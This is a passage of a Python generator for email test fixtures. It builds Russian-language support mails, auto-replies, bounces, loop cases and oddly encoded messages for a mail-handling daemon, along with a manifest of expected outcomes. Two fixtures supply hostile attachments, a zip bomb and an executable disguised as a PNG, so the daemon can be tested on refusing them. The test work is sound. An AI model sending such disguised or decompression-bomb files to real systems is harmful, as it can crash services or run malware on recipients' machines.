        [attachment("application/zip", "screens.zip", zip_bomb())],
        "------------E4F5A6B7C8D9E0F1A2B3C4D5",
    )


@case(
    name="22_png_that_is_exe",
    description="A '.png' that is really a Windows executable: refused",
    sender="s.ivanov@mail-box.example",
    subject="Посмотрите ошибку",
    text=["посмотрите скриншот"],
    answered=True,
    message_id=mid("22", "mail-box.example"),
    attachments=[refused("error.png", "PNG")],
)
def _exe() -> bytes:
    return _with_files(
        "22",
        "s.ivanov@mail-box.example",
        "Посмотрите ошибку",
        "Срочно посмотрите скриншот ошибки.",
        [attachment("image/png", "error.png", exe())],
        "------------F5A6B7C8D9E0F1A2B3C4D5E6",
    )


# 23-31: robots and loops: stored, shown to staff, never answered ----------------
@case(
    name="23_auto_submitted",
    description="RFC 3834 auto-reply: Auto-Submitted: auto-replied",
    sender="petrov@zavod-metall.example",
    subject="Автоматический ответ: Обновление лицензии",
    text=["в отпуске до 1 декабря"],
    answered=False,
    robot="auto-submitted",
    message_id=mid("23", "zavod-metall.example"),
)
def _auto_submitted() -> bytes:
    headers = envelope(
        f"{b_word('Петров Иван', 'utf-8')} <petrov@zavod-metall.example>",
        b_word("Автоматический ответ: Обновление лицензии", "utf-8"),
        mid("23", "zavod-metall.example"),
        [("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")],
    )
    text = "Я в отпуске до 1 декабря. По срочным вопросам: Мария, +7 (343) 555-12-34."
    return message(headers, text_part(text, "utf-8", "base64"))


@case(
    name="24_out_of_office_x_autoreply",
    description="Yandex-style vacation reply: X-Autoreply: yes, no Auto-Submitted",
    sender="director@tk-vostok.example",
    subject="Нет на месте",
    text=["Нахожусь в командировке"],
    answered=False,
    robot="x-autoreply",
    message_id=mid("24", "tk-vostok.example"),
)
def _x_autoreply() -> bytes:
    headers = envelope(
        "director@tk-vostok.example",
        b_word("Нет на месте", "utf-8"),
        mid("24", "tk-vostok.example"),
        [("X-Autoreply", "yes")],
    )
    text = "Нахожусь в командировке до 30.11, почту читаю нерегулярно."
    return message(headers, text_part(text, "utf-8", "8bit"))


@case(
    name="25_precedence_bulk",
    description="A hosting provider newsletter: Precedence: bulk",
    sender="news@hosting-provider.example",
    subject="Плановые работы в дата-центре 28 ноября",
    text=["плановые работы"],
    answered=False,
    robot="precedence",
    message_id=mid("25", "hosting-provider.example"),
)
def _bulk() -> bytes:
    headers = envelope(
        f"{b_word('Хостинг-провайдер', 'utf-8')} <news@hosting-provider.example>",
        b_word("Плановые работы в дата-центре 28 ноября", "utf-8"),
        mid("25", "hosting-provider.example"),
        [("Precedence", "bulk")],
    )
    text = "Уважаемые клиенты! 28 ноября с 02:00 до 04:00 пройдут плановые работы."
    return message(headers, text_part(text, "utf-8", "quoted-printable"))


@case(
    name="26_list_id",
    description="A mailing list post that reached support: List-Id, List-Unsubscribe",
    sender="alexey@dev-studio.example",
    subject="[php-ru] Вопрос по opcache",
    text=["opcache.validate_timestamps"],
    answered=False,
    robot="list-id",
    message_id=mid("26", "dev-studio.example"),
)
def _list() -> bytes:
    headers = envelope(
        "Alexey <alexey@dev-studio.example>",
        b_word("[php-ru] Вопрос по opcache", "utf-8"),
        mid("26", "dev-studio.example"),
        [
            ("List-Id", "PHP Russian users <php-ru.lists.example.org>"),
            ("List-Unsubscribe", "<mailto:php-ru-leave@lists.example.org>"),
            ("Sender", "php-ru-bounces@lists.example.org"),
        ],
    )
    text = "Коллеги, кто как выставляет opcache.validate_timestamps на проде?"
    return message(headers, text_part(text, "utf-8", "8bit"))


BOUNCE_TEXT = """This is the mail system at host mx.mail-hosting.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<no-such-user@stroymarket.ru>: host mx.stroymarket.ru[192.0.2.10] said: 550
    5.1.1 <no-such-user@stroymarket.ru>: Recipient address rejected: User
    unknown in virtual mailbox table
"""
BOUNCE_STATUS = """Reporting-MTA: dns; mx.mail-hosting.example
X-Postfix-Queue-ID: 4ZQ1xY2abc
Arrival-Date: Wed, 25 Nov 2026 10:15:01 +0300

Final-Recipient: rfc822; no-such-user@stroymarket.ru
Original-Recipient: rfc822;no-such-user@stroymarket.ru
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.stroymarket.ru
Diagnostic-Code: smtp; 550 5.1.1 <no-such-user@stroymarket.ru>: Recipient
    address rejected: User unknown in virtual mailbox table
"""
BOUNCED_HEADERS = """Return-Path: <support@example.com>
From: support@example.com
To: no-such-user@stroymarket.ru
Subject: =?utf-8?b?0J7QsdGA0LDRidC10L3QuNC1INC30LDRgNC10LPQuNGB0YLRgNC40YDQvtCy0LDQvdC+?=
Date: Wed, 25 Nov 2026 10:14:00 +0300
Message-ID: <bounced-confirmation@example.com>
Auto-Submitted: auto-replied
"""


@case(
    name="27_mailer_daemon_bounce",
    description="Postfix bounce: multipart/report with message/delivery-status",
    sender="mailer-daemon@mx.mail-hosting.example",
    subject="Undelivered Mail Returned to Sender",
    text=["could not", "User", "unknown"],
    answered=False,
    robot="bounce",
    message_id=mid("27", "mx.mail-hosting.example"),
)
def _bounce() -> bytes:
    boundary = "4ZQ1xY2abc.1764054901/mx.mail-hosting.example"
    headers = envelope(
        "MAILER-DAEMON@mx.mail-hosting.example (Mail Delivery System)",
        "Undelivered Mail Returned to Sender",
        mid("27", "mx.mail-hosting.example"),
        [("Return-Path", "<>"), ("Auto-Submitted", "auto-replied")],
    )
    notice = Part(
        [("Content-Description", "Notification"), ("Content-Type", "text/plain; charset=us-ascii")],
        crlf(BOUNCE_TEXT),
    )
    status = Part(
        [("Content-Description", "Delivery report"), ("Content-Type", "message/delivery-status")],
        crlf(BOUNCE_STATUS),
    )
    original = Part(
        [
            ("Content-Description", "Undelivered Message Headers"),
            ("Content-Type", "text/rfc822-headers"),
        ],
        crlf(BOUNCED_HEADERS),
    )
    body = multipart("report; report-type=delivery-status", boundary, [notice, status, original])
    body.headers.insert(0, ("Content-Description", "Undelivered Mail Returned to Sender"))
    return message(headers, body)


@case(
    name="28_noreply_sender",
    description="A notification from noreply@: no human reads replies",
    sender="noreply@bank-online.example",
    subject="Поступление платежа по счёту",
    text=["Поступил платёж"],
    answered=False,
    robot="noreply",
    message_id=mid("28", "bank-online.example"),
)
def _noreply() -> bytes:
    headers = envelope(
        f"{b_word('Интернет-банк', 'utf-8')} <noreply@bank-online.example>",
        b_word("Поступление платежа по счёту", "utf-8"),
        mid("28", "bank-online.example"),
    )
    text = "Поступил платёж 12 500,00 руб. по счёту 40702810900000012345."
    return message(headers, text_part(text, "utf-8", "quoted-printable"))


@case(
    name="29_x_loop",
    description="A partner's helpdesk echoes our mail back with X-Loop: support@example.com",
    sender="helpdesk@partner-crm.example",
    subject="Заявка принята",
    text=["Ваша заявка зарегистрирована"],
    answered=False,
    robot="x-loop",
    message_id=mid("29", "partner-crm.example"),
)
def _x_loop() -> bytes:
    headers = envelope(
        "helpdesk@partner-crm.example",
        b_word("Заявка принята", "utf-8"),
        mid("29", "partner-crm.example"),
        [("X-Loop", SUPPORT)],
    )
    text = "Ваша заявка зарегистрирована под номером 77781."
    return message(headers, text_part(text, "utf-8", "8bit"))


@case(
    name="30_no_message_id",
    description="A human message without a Message-ID: maild makes a stable one up",
    sender="babushkin@dacha-tovary.example",
    subject="Как поменять логотип",
    text=["поменять логотип"],
    answered=True,
    message_id=None,
)
def _no_msgid() -> bytes:
    headers = envelope(
        "babushkin@dacha-tovary.example", b_word("Как поменять логотип", "utf-8"), None
    )
    text = "Подскажите, как поменять логотип в шапке сайта?"
    return message(headers, text_part(text, "utf-8", "8bit"))


@case(
    name="31_no_from",
    description="No From header at all: stored for staff, nobody to answer",
    sender="",
    subject="Заказ 4471 не оплачен",
    text=["Заказ 4471"],
    answered=False,
    robot="no-from",
    message_id=mid("31", "unknown-sender.example"),
)
def _no_from() -> bytes:
    headers: list[tuple[str, str | bytes]] = [
        ("To", SUPPORT),
        ("Subject", b_word("Заказ 4471 не оплачен", "utf-8")),
        ("Date", DATE),
        ("Message-ID", mid("31", "unknown-sender.example")),
    ]
    text = "Заказ 4471 не оплачен, хотя деньги списаны."
    return message(headers, text_part(text, "utf-8", "8bit"))


@case(
    name="32_from_support_itself",
    description="Mail from the support address itself (a forwarding loop)",
    sender=SUPPORT,
    subject="Обращение зарегистрировано: Не работает сайт",
    ticket_subject="Не работает сайт",  # our own prefix is no customer's subject
    text=["зарегистрировано"],
    answered=False,
    robot="support-address",
    message_id=mid("32", "example.com"),
)
def _from_support() -> bytes:
    headers = envelope(
        f"{b_word('Служба поддержки', 'utf-8')} <{SUPPORT}>",
        b_word("Обращение зарегистрировано: Не работает сайт", "utf-8"),
        mid("32", "example.com"),
    )
    text = "Ваше обращение принято и зарегистрировано."
    return message(headers, text_part(text, "utf-8", "8bit"))


@case(
    name="33_raw_8bit_filename",
    description="Old client: file name as raw windows-1251 bytes, no RFC 2047 or 2231",
    sender="zakaz@mebelnaya-fabrika.example",
    subject="Не работает фильтр по цене",
    text=["фильтр по цене"],
    answered=True,
    message_id=mid("33", "mebelnaya-fabrika.example"),
    attachments=[accepted("Фильтр.png")],
)
def _raw_filename() -> bytes:
    boundary = "----=_NextPart_000_0033_01DB3F2A.6C1E5B40"
    headers = envelope(
        "zakaz@mebelnaya-fabrika.example",
        b_word("Не работает фильтр по цене", "windows-1251"),
        mid("33", "mebelnaya-fabrika.example"),
        [("X-Mailer", "Microsoft Outlook Express 6.00.2800.1106")],
    )
    name = "Фильтр.png".encode("cp1251")
    shot = (
        b'Content-Type: image/png; name="' + name + b'"' + CRLF
        + b"Content-Transfer-Encoding: base64" + CRLF
        + b'Content-Disposition: attachment; filename="' + name + b'"' + CRLF
        + CRLF + b64_body(png())
    )  # fmt: skip
    text = text_part("Не работает фильтр по цене в каталоге.", "windows-1251", "8bit")
    body = (
        b"--" + boundary.encode() + CRLF + text.render() + CRLF
        + b"--" + boundary.encode() + CRLF + shot + CRLF
        + b"--" + boundary.encode() + b"--" + CRLF
    )  # fmt: skip
    top = Part([("Content-Type", f'multipart/mixed;\r\n\tboundary="{boundary}"')], body)
    return message(headers, top)


FORWARDED_HTML = (
    '<html><body><div dir="ltr">Ваш заказ <b>№ 5512</b> не может быть оплачен: '
    "платёжный шлюз вернул ошибку 502.</div></body></html>"
)


@case(
    name="34_forwarded_html_only_message",
    description="A customer forwards (as attachment) an HTML-only mail: both texts are kept",
    sender="manager@sad-i-ogorod.example",
    subject="Fwd: Ошибка оплаты заказа",
    ticket_subject="Ошибка оплаты заказа",
    text=["Пересылаю письмо покупателя", "платёжный шлюз вернул ошибку 502"],
    text_absent=["<b>"],
    answered=True,
    message_id=mid("34", "sad-i-ogorod.example"),
)
def _forwarded() -> bytes:
    inner_headers = [
        ("From", "shop@sad-i-ogorod.example"),
        ("To", "buyer@mail.example"),
        ("Subject", b_word("Ошибка оплаты заказа", "utf-8")),
        ("Date", "Tue, 24 Nov 2026 18:02:11 +0300"),
        ("Message-ID", "<order-5512@sad-i-ogorod.example>"),
    ]
    inner = message(inner_headers, text_part(FORWARDED_HTML, "utf-8", "base64", "html"))
    forwarded = Part([("Content-Type", "message/rfc822"), ("Content-Disposition", "inline")], inner)
    headers = envelope(
        "manager@sad-i-ogorod.example",
        "Fwd: " + b_word("Ошибка оплаты заказа", "utf-8"),
        mid("34", "sad-i-ogorod.example"),
    )
    body = multipart(
        "mixed",
        "------------34A6B7C8D9E0F1A2B3C4D5E6",
        [text_part("Пересылаю письмо покупателя, см. ниже.", "utf-8", "8bit"), forwarded],
    )
    return message(headers, body)


# --- output --------------------------------------------------------------------


def expected_entry(c: Case) -> dict[str, Any]:
    return {
        "file": f"{c.name}.eml",
        "description": c.description,
        "message_id": c.message_id,
        "sender": c.sender,
        "subject": c.subject,
        "ticket_subject": c.ticket_subject or c.subject,
        "text": c.text,
        "text_absent": c.text_absent,
        "attachments": c.attachments,
        "answered": c.answered,
        "robot": c.robot,
        "bmp_hint": c.bmp_hint,
    }


def build(outdir: Path) -> list[Path]:
    outdir.mkdir(parents=True, exist_ok=True)
    written = []
    for c in CASES:
        path = outdir / f"{c.name}.eml"
        path.write_bytes(c.build())
        written.append(path)
    manifest = {"support_address": SUPPORT, "cases": [expected_entry(c) for c in CASES]}
    path = outdir / "expected.json"
    path.write_text(json.dumps(manifest, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    written.append(path)
    # The files are byte exact (CRLF, 8-bit): keep git from normalising them.
    attributes = outdir / ".gitattributes"
    attributes.write_text("*.eml -text\n", encoding="utf-8")
    written.append(attributes)
    return written


def main(argv: list[str]) -> int:
    outdir = Path(argv[1]) if len(argv) > 1 else DEFAULT_OUT
    written = build(outdir)
    print(f"wrote {len(written)} files to {outdir}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
